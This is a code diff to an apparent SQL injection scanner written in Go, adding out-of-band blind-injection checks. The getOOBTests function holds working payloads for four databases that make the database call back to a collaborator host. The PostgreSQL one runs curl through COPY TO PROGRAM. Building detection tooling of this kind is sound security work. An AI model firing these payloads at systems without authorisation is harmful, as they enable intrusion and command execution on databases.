@@ -19,6 +19,7 @@ type EnhancedSQLiDetector struct {
 	requestModifier  *detector.RequestModifier
 	responseAnalyzer *detector.ResponseAnalyzer
 	paramExtractor   *detector.ParameterExtractor
+	oobProvider      detector.OOBProvider
 }
 
 // NewEnhancedSQLiDetector 创建增强的SQL注入检测器
@@ -48,6 +49,11 @@ func (e *EnhancedSQLiDetector) SetSessionCookies(cookies []*http.Cookie) {
 	e.requestModifier.SetSessionCookies(cookies)
 }
 
+// SetOOBProvider 设置带外交互提供者，未设置时跳过带外检测
+func (e *EnhancedSQLiDetector) SetOOBProvider(provider detector.OOBProvider) {
+	e.oobProvider = provider
+}
+
 // SQLiTest SQL注入测试用例
 type SQLiTest struct {
 	Title         string
@@ -170,6 +176,11 @@ func (e *EnhancedSQLiDetector) Execute(ctx context.Context, target *detector.Sca
 			fmt.Printf("[SUCCESS] 发现时间盲注漏洞: %s\n", point.Name)
 		}
 
+		// 5. 带外盲注检测 (不等待回连，由扫描器在回连到达时上报)
+		if len(vulns) == 0 && e.oobProvider != nil {
+			e.testOOBInjection(ctx, target, point)
+		}
+
 		// 如果发现漏洞，标记结果并添加到结果中
 		if len(vulns) > 0 {
 			result.IsVulnerable = true
@@ -319,7 +330,7 @@ func (e *EnhancedSQLiDetector) testBooleanBlindInjection(ctx context.Context, ta
 			len(trueBody), len(falseBody), len(baselineBody))
 
 		// 分析响应差异 - 使用更精确的方法
-		if e.analyzeBooleanDifference(baselineBody, trueBody, falseBody) {
+		if e.responseAnalyzer.AnalyzeBooleanDifference(baselineBody, trueBody, falseBody) {
 			fmt.Printf("[FOUND] 布尔盲注差异检测成功\n")
 			return e.buildVulnerability(
 				models.VulnSQLi,
@@ -433,6 +444,58 @@ func (e *EnhancedSQLiDetector) testTimeBasedInjection(ctx context.Context, targe
 	return nil
 }
 
+// OOBTest 带外注入测试
+type OOBTest struct {
+	DBMS     string
+	Template string // %s 为回连地址
+	NeedsDNS bool   // 使用DNS域名（UNC路径），否则使用HTTP地址
+}
+
+// testOOBInjection 注入触发数据库发起DNS/HTTP请求的语句，为每个载荷登记预期漏洞
+func (e *EnhancedSQLiDetector) testOOBInjection(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint) {
+	for _, test := range e.getOOBTests() {
+		interaction := e.oobProvider.NewInteraction()
+
+		address := interaction.URL
+		if test.NeedsDNS {
+			if interaction.Domain == "" {
+				continue
+			}
+			address = interaction.Domain
+		}
+
+		payload := e.buildPayload(point, fmt.Sprintf(test.Template, address))
+		fmt.Printf("[DEBUG] 测试SQL带外注入payload: %s\n", payload)
+
+		resp, err := e.requestModifier.ModifyParameter(ctx, target, point, payload)
+		if err != nil {
+			continue
+		}
+		resp.Body.Close()
+
+		vuln := e.buildVulnerability(
+			models.VulnSQLi,
+			"SQL Out-of-band Blind Injection",
+			fmt.Sprintf("参数 %s 存在SQL盲注漏洞，数据库执行了注入的带外请求语句 (%s)", point.Name, test.DBMS),
+			target, point, payload,
+			"",
+			0.95,
+		)
+		vuln.Metadata["dbms"] = test.DBMS
+		e.oobProvider.ExpectInteraction(interaction.ID, vuln)
+	}
+}
+
+// getOOBTests 各数据库的带外请求语句
+func (e *EnhancedSQLiDetector) getOOBTests() []OOBTest {
+	return []OOBTest{
+		{DBMS: "MySQL", Template: "' AND LOAD_FILE(CONCAT('\\\\\\\\','%s','\\\\a'))-- ", NeedsDNS: true},
+		{DBMS: "Microsoft SQL Server", Template: "'; EXEC master..xp_dirtree '\\\\%s\\a'-- ", NeedsDNS: true},
+		{DBMS: "Oracle", Template: "' AND (SELECT UTL_HTTP.REQUEST('%s') FROM dual) IS NOT NULL-- "},
+		{DBMS: "PostgreSQL", Template: "'; COPY (SELECT 1) TO PROGRAM 'curl %s'-- "},
+	}
+}
+
 // 辅助方法
 
 func (e *EnhancedSQLiDetector) buildPayload(point detector.InjectPoint, template string) string {
@@ -506,82 +569,6 @@ func (e *EnhancedSQLiDetector) containsErrorIndicators(body string) bool {
 	return false
 }
 
-func (e *EnhancedSQLiDetector) analyzeBooleanDifference(baseline, trueResp, falseResp []byte) bool {
-	baselineLen := len(baseline)
-	trueLen := len(trueResp)
-	falseLen := len(falseResp)
-	
-	// 1. 基本长度差异检查
-	trueDiff := absInt(trueLen - baselineLen)
-	falseDiff := absInt(falseLen - baselineLen)
-	
-	// True应该与基准相似，False应该有差异
-	if trueDiff < 100 && falseDiff > 500 {
-		return true
-	}
-	
-	// 2. True和False之间的差异
-	tfDiff := absInt(trueLen - falseLen)
-	if tfDiff > 200 {
-		return true
-	}
-	
-	// 3. 内容相似度分析
-	trueSim, _ := e.responseAnalyzer.AnalyzeDifference(baseline, trueResp)
-	falseSim, _ := e.responseAnalyzer.AnalyzeDifference(baseline, falseResp)
-	
-	// True应该与基准更相似
-	if trueSim > 0.95 && falseSim < 0.85 {
-		return true
-	}
-	
-	// 4. 文本内容差异分析
-	if e.analyzeTextDifferences(string(trueResp), string(falseResp)) {
-		return true
-	}
-	
-	return false
-}
-
-func (e *EnhancedSQLiDetector) analyzeTextDifferences(trueBody, falseBody string) bool {
-	// 检查关键词差异
-	trueWords := strings.Fields(strings.ToLower(trueBody))
-	falseWords := strings.Fields(strings.ToLower(falseBody))
-	
-	trueWordCount := make(map[string]int)
-	falseWordCount := make(map[string]int)
-	
-	for _, word := range trueWords {
-		trueWordCount[word]++
-	}
-	
-	for _, word := range falseWords {
-		falseWordCount[word]++
-	}
-	
-	// 计算词汇差异
-	diffCount := 0
-	for word := range trueWordCount {
-		if trueWordCount[word] != falseWordCount[word] {
-			diffCount++
-		}
-	}
-	
-	for word := range falseWordCount {
-		if falseWordCount[word] != trueWordCount[word] {
-			diffCount++
-		}
-	}
-	
-	// 如果词汇差异超过10%，认为存在差异
-	totalWords := len(trueWords) + len(falseWords)
-	if totalWords > 0 && float64(diffCount)/float64(totalWords) > 0.1 {
-		return true
-	}
-	
-	return false
-}
-
 // 测试用例定义
 
 func (e *EnhancedSQLiDetector) getErrorBasedTests() []SQLiTest {